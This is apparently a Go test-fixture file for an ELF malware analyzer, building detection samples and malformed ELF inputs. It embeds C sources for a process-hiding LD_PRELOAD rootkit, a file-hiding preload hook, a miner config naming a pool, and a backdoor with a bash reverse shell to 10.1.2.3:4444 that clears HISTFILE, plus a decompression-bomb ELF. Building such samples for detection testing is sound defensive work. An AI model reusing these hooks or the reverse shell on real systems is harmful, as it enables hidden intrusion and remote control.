package elf

import (
	"bytes"
	"compress/flate"
	"context"
	"debug/elf"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// The C sources below are written with mask ("|") inside the strings the
// analyzer looks for, so that the Go test binary carrying them is not a
// "miner" itself; unmasked() removes it before compiling.
func unmasked(s string) string { return strings.ReplaceAll(s, mask, "") }

const minerC = `
#include <stdio.h>
static const char *cfg[] = {
	"stratum+|tcp://pool.supportx|mr.com:3333", "--donate|-level=1", "XM|Rig/6.21.0",
	"rx/0", "Random|X", "crypto|night", "hash|rate %.1f H/s", 0,
};
int main(int argc, char **argv) {
	for (int i = 0; cfg[i]; i++) if (argc > 5) puts(cfg[i]);
	return 0;
}
`

const hiderC = `
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static const char *process_to|_filter = "evil_script.py";
static int get_dir_name(DIR *dirp, char *buf, size_t size) {
	int fd = dirfd(dirp);
	if (fd == -1) return 0;
	char tmp[64];
	snprintf(tmp, sizeof(tmp), "/proc/self/fd/%d", fd);
	ssize_t ret = readlink(tmp, buf, size);
	if (ret == -1) return 0;
	buf[ret] = 0;
	return 1;
}
#define DECLARE_READDIR(dirent, readdir)                                              \
static struct dirent *(*original_##readdir)(DIR *) = NULL;                            \
struct dirent *readdir(DIR *dirp) {                                                   \
	if (original_##readdir == NULL) original_##readdir = dlsym(RTLD_NEXT, #readdir); \
	struct dirent *dir;                                                               \
	while (1) {                                                                       \
		dir = original_##readdir(dirp);                                               \
		if (dir) {                                                                    \
			char dir_name[256];                                                       \
			if (get_dir_name(dirp, dir_name, sizeof(dir_name)) &&                     \
			    strcmp(dir_name, "/proc") == 0 &&                                     \
			    strstr(dir->d_name, process_to|_filter)) continue;                    \
		}                                                                             \
		break;                                                                        \
	}                                                                                 \
	return dir;                                                                       \
}
DECLARE_READDIR(dirent64, readdir64);
DECLARE_READDIR(dirent, readdir);
`

// preloadC is an anonymous LD_PRELOAD rootkit: no known name, but it hides
// directory entries, hides its own preload file and calls the originals.
const preloadC = `
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
static const char *hidden = "/etc/ld.so.|preload";
struct dirent *readdir(DIR *d) {
	static struct dirent *(*o)(DIR *);
	if (!o) o = dlsym(RTLD_NEXT, "readdir");
	struct dirent *e;
	while ((e = o(d)) && strstr(e->d_name, "xhide")) {}
	return e;
}
FILE *fopen(const char *p, const char *m) {
	static FILE *(*o)(const char *, const char *);
	if (!o) o = dlsym(RTLD_NEXT, "fopen");
	if (strcmp(p, hidden) == 0) return NULL;
	return o(p, m);
}
`

const backdoorC = `
#include <stdio.h>
#include <stdlib.h>
int main(int argc, char **argv) {
	if (argc > 3) {
		setenv("HISTFILE", "/dev/null", 1);
		system("unset |HISTFILE; bash |-i >& /dev/|tcp/10.1.2.3/4444 0>|&1");
	}
	puts("[kwor|ker/0:1]");
	return 0;
}
`

const helloC = `
#include <stdio.h>
int main(void) { puts("hello"); return 0; }
`

// cc compiles C source with the host's compiler, skipping the test when
// there is none.
func cc(t testing.TB, name, src string, args ...string) []byte {
	t.Helper()
	gcc, err := exec.LookPath("cc")
	if err != nil {
		if gcc, err = exec.LookPath("gcc"); err != nil {
			t.Skipf("no C compiler on this host: %v", err)
		}
	}
	dir := t.TempDir()
	c := filepath.Join(dir, name+".c")
	if err := os.WriteFile(c, []byte(unmasked(src)), 0o644); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, name)
	cmd := exec.Command(gcc, append(append([]string{"-o", out}, args...), c, "-ldl")...)
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("cc %s: %v\n%s", name, err, b)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// upxTool returns the path of upx, installing Debian's upx-ucl with apt-get
// when it is available there and the test runs as root; "" when there is
// no upx.
func upxTool(t testing.TB) (string, string) {
	for _, n := range []string{"upx", "upx-ucl"} {
		if p, err := exec.LookPath(n); err == nil {
			return p, ""
		}
	}
	why := "upx is not installed"
	if os.Geteuid() == 0 {
		if _, err := exec.LookPath("apt-get"); err == nil {
			// apt-cache madison lists only the packages the sources offer.
			out, _ := exec.Command("apt-cache", "madison", "upx-ucl", "upx").Output()
			for _, pkg := range []string{"upx-ucl", "upx"} {
				if !strings.Contains(string(out), pkg+" |") {
					continue
				}
				ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
				out, err := exec.CommandContext(ctx, "apt-get", "install", "-y", "--no-install-recommends", pkg).CombinedOutput()
				cancel()
				if err != nil {
					t.Logf("apt-get install %s: %v\n%s", pkg, err, tail(out))
					continue
				}
				for _, n := range []string{"upx", "upx-ucl"} {
					if p, err := exec.LookPath(n); err == nil {
						return p, ""
					}
				}
			}
			why += " and neither upx-ucl nor upx is in this machine's apt sources (Debian bookworm has no upx-ucl; trixie does)"
		}
	}
	return "", why
}

func tail(b []byte) string {
	if len(b) > 2000 {
		b = b[len(b)-2000:]
	}
	return string(b)
}

// upxPack packs an executable with the real upx.
func upxPack(t testing.TB, upx string, bin []byte) []byte {
	t.Helper()
	dir := t.TempDir()
	p := filepath.Join(dir, "prog")
	if err := os.WriteFile(p, bin, 0o755); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command(upx, "-q", "--best", p).CombinedOutput(); err != nil {
		t.Fatalf("upx: %v\n%s", err, out)
	}
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// upxLayout builds, without upx, a file laid out the way UPX packs a Linux
// x86-64 executable: ELF header and program headers with no section table,
// one writable and executable PT_LOAD that unpacks into a larger memory
// image, the l_info/p_info headers with the "UPX!" magic, the program
// deflated into b_info blocks, the decompressor stub with UPX's $Info and
// $Id banners, and the PackHeader trailer (again "UPX!") at the end.
// stripped drops the magic and banners, as malware that hides its packer
// does.
func upxLayout(prog []byte, stripped bool) []byte {
	var payload bytes.Buffer
	w, _ := flate.NewWriter(&payload, flate.BestCompression)
	w.Write(prog)
	w.Close()

	magic := []byte("UPX!")
	info := []byte("\x00$Info: This file is packed with the UPX executable packer http://upx.sf.net $\n\x00" +
		"$Id: UPX 4.24 Copyright (C) 1996-2024 the UPX Team. All Rights Reserved. $\n\x00")
	if stripped {
		magic = []byte{0x7e, 0x11, 0x42, 0x9c}
		info = nil
	}
	le := binary.LittleEndian
	var b bytes.Buffer
	const base = 0x400000
	hdr := make([]byte, 64+2*56)
	copy(hdr, elf.ELFMAG)
	hdr[elf.EI_CLASS], hdr[elf.EI_DATA], hdr[elf.EI_VERSION], hdr[elf.EI_OSABI] = byte(elf.ELFCLASS64), byte(elf.ELFDATA2LSB), 1, byte(elf.ELFOSABI_LINUX)
	le.PutUint16(hdr[16:], uint16(elf.ET_EXEC))
	le.PutUint16(hdr[18:], uint16(elf.EM_X86_64))
	le.PutUint32(hdr[20:], 1)
	le.PutUint64(hdr[24:], base+0x1000)
	le.PutUint64(hdr[32:], 64) // phoff
	le.PutUint16(hdr[52:], 64)
	le.PutUint16(hdr[54:], 56)
	le.PutUint16(hdr[56:], 2)
	b.Write(hdr)
	// l_info, p_info, b_info.
	li := make([]byte, 12)
	copy(li[4:], magic)
	le.PutUint16(li[8:], 0x2b0)
	li[10], li[11] = 14, 22 // version, format (UPX_F_LINUX_ELF_amd64)
	b.Write(li)
	pi := make([]byte, 12)
	le.PutUint32(pi[4:], uint32(len(prog)))
	le.PutUint32(pi[8:], uint32(len(prog)))
	b.Write(pi)
	bi := make([]byte, 12)
	le.PutUint32(bi[0:], uint32(len(prog)))
	le.PutUint32(bi[4:], uint32(payload.Len()))
	bi[8] = 14 // M_LZMA
	b.Write(bi)
	b.Write(payload.Bytes())
	// The stub: position-independent decompressor code (random here) and
	// the banners.
	r := rand.New(rand.NewPCG(7, 8))
	stub := make([]byte, 3000)
	for i := range stub {
		stub[i] = byte(r.IntN(256))
	}
	b.Write(stub)
	b.Write(info)
	// PackHeader.
	ph := make([]byte, 36)
	copy(ph, magic)
	ph[4], ph[5], ph[6], ph[7] = 14, 22, 14, 10
	le.PutUint32(ph[16:], uint32(len(prog)))
	le.PutUint32(ph[20:], uint32(payload.Len()))
	b.Write(ph)
	out := b.Bytes()
	// Program headers: everything in one RWX segment, unpacked to a memory
	// image three times the program's size; a non-executable stack.
	ph0 := out[64:]
	le.PutUint32(ph0[0:], uint32(elf.PT_LOAD))
	le.PutUint32(ph0[4:], uint32(elf.PF_R|elf.PF_W|elf.PF_X))
	le.PutUint64(ph0[16:], base)
	le.PutUint64(ph0[24:], base)
	le.PutUint64(ph0[32:], uint64(len(out)))
	le.PutUint64(ph0[40:], uint64(3*len(prog)+len(out)))
	le.PutUint64(ph0[48:], 0x1000)
	ph1 := out[64+56:]
	le.PutUint32(ph1[0:], uint32(elf.PT_GNU_STACK))
	le.PutUint32(ph1[4:], uint32(elf.PF_R|elf.PF_W))
	return out
}

// program returns a real executable to pack: the host's /bin/ls, or the
// test binary itself.
func program(t testing.TB) []byte {
	for _, p := range []string{"/bin/ls", "/usr/bin/ls"} {
		if b, err := os.ReadFile(p); err == nil {
			return b
		}
	}
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(exe)
	if err != nil {
		t.Fatal(err)
	}
	return b[:min(len(b), 2<<20)]
}

// elfHeader64 returns a minimal little-endian ELF64 header; callers poke
// fields to break it.
func elfHeader64(typ elf.Type) []byte {
	h := make([]byte, 64)
	copy(h, elf.ELFMAG)
	h[elf.EI_CLASS], h[elf.EI_DATA], h[elf.EI_VERSION] = byte(elf.ELFCLASS64), byte(elf.ELFDATA2LSB), 1
	le := binary.LittleEndian
	le.PutUint16(h[16:], uint16(typ))
	le.PutUint16(h[18:], uint16(elf.EM_X86_64))
	le.PutUint32(h[20:], 1)
	le.PutUint16(h[52:], 64)
	le.PutUint16(h[54:], 56)
	le.PutUint16(h[58:], 64)
	return h
}

// hostileELFs returns hostile files that start like ELF.
func hostileELFs(t testing.TB) map[string][]byte {
	le := binary.LittleEndian
	real := program(t)
	out := map[string][]byte{
		"magic only":          []byte("\x7fELF"),
		"truncated header":    append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 40)...),
		"bad class":           append([]byte("\x7fELF\x09\x01\x01"), make([]byte, 60)...),
		"bad data":            append([]byte("\x7fELF\x02\x07\x01"), make([]byte, 60)...),
		"truncated real":      real[:min(len(real), 200)],
		"truncated real half": real[:len(real)/2],
	}
	h := elfHeader64(elf.ET_EXEC)
	le.PutUint64(h[32:], 64)
	le.PutUint16(h[56:], 0xffff) // 65535 program headers
	out["absurd phnum"] = append(h, make([]byte, 4096)...)

	h = elfHeader64(elf.ET_DYN)
	le.PutUint64(h[32:], 1<<62) // phoff far beyond the end
	le.PutUint16(h[56:], 4)
	out["phoff beyond end"] = h

	h = elfHeader64(elf.ET_EXEC)
	le.PutUint16(h[54:], 8) // phentsize too small
	le.PutUint16(h[56:], 2)
	out["tiny phentsize"] = append(h, make([]byte, 256)...)

	// Valid program headers, hostile section tables.
	withProg := func() []byte {
		h := elfHeader64(elf.ET_EXEC)
		le.PutUint64(h[32:], 64)
		le.PutUint16(h[56:], 1)
		ph := make([]byte, 56)
		le.PutUint32(ph[0:], uint32(elf.PT_LOAD))
		le.PutUint32(ph[4:], uint32(elf.PF_R|elf.PF_X))
		le.PutUint64(ph[32:], 1<<40) // filesz far beyond the end
		le.PutUint64(ph[40:], 1<<40)
		return append(append(h, ph...), make([]byte, 8192)...)
	}
	b := withProg()
	le.PutUint64(b[40:], 1<<50)
	le.PutUint16(b[60:], 0xff00)
	out["shoff beyond end"] = b

	b = withProg()
	le.PutUint64(b[40:], 200) // extended numbering: count in section 0
	le.PutUint16(b[60:], 0)
	le.PutUint64(b[200+32:], 1<<40)
	out["extended shnum"] = b

	// A compressed section name table (a decompression bomb for debug/elf).
	b = withProg()
	le.PutUint64(b[40:], 1024)
	le.PutUint16(b[60:], 2)
	le.PutUint16(b[62:], 1)
	s1 := b[1024+64:]
	le.PutUint32(s1[4:], uint32(elf.SHT_STRTAB))
	le.PutUint64(s1[8:], uint64(elf.SHF_COMPRESSED))
	le.PutUint64(s1[24:], 4096)
	le.PutUint64(s1[32:], 2048)
	ch := b[4096:]
	le.PutUint32(ch[0:], uint32(elf.COMPRESS_ZLIB))
	le.PutUint64(ch[8:], 1<<62)
	out["compressed names"] = b

	// Dynamic symbol tables that are NOBITS and claim terabytes, or lie
	// beyond the end of the file.
	for name, typ := range map[string]elf.SectionType{"nobits dynsym": elf.SHT_NOBITS, "dynsym beyond end": elf.SHT_DYNSYM} {
		b = withProg()
		le.PutUint64(b[40:], 1024)
		le.PutUint16(b[60:], 3)
		le.PutUint16(b[62:], 2)
		s1 = b[1024+64:]
		le.PutUint32(s1[4:], uint32(typ))
		le.PutUint64(s1[24:], 1<<40)
		le.PutUint64(s1[32:], 1<<42)
		le.PutUint32(s1[40:], 2)
		s2 := b[1024+128:]
		le.PutUint32(s2[4:], uint32(elf.SHT_STRTAB))
		le.PutUint64(s2[24:], 2048)
		le.PutUint64(s2[32:], 16)
		out[name] = b
	}

	// Random bytes after a valid header, many times.
	r := rand.New(rand.NewPCG(5, 6))
	for i := 0; i < 20; i++ {
		b := withProg()
		for j := 64; j < len(b); j++ {
			if r.IntN(8) == 0 {
				b[j] = byte(r.IntN(256))
			}
		}
		out[fmt.Sprintf("random %d", i)] = b
	}
	return out
}
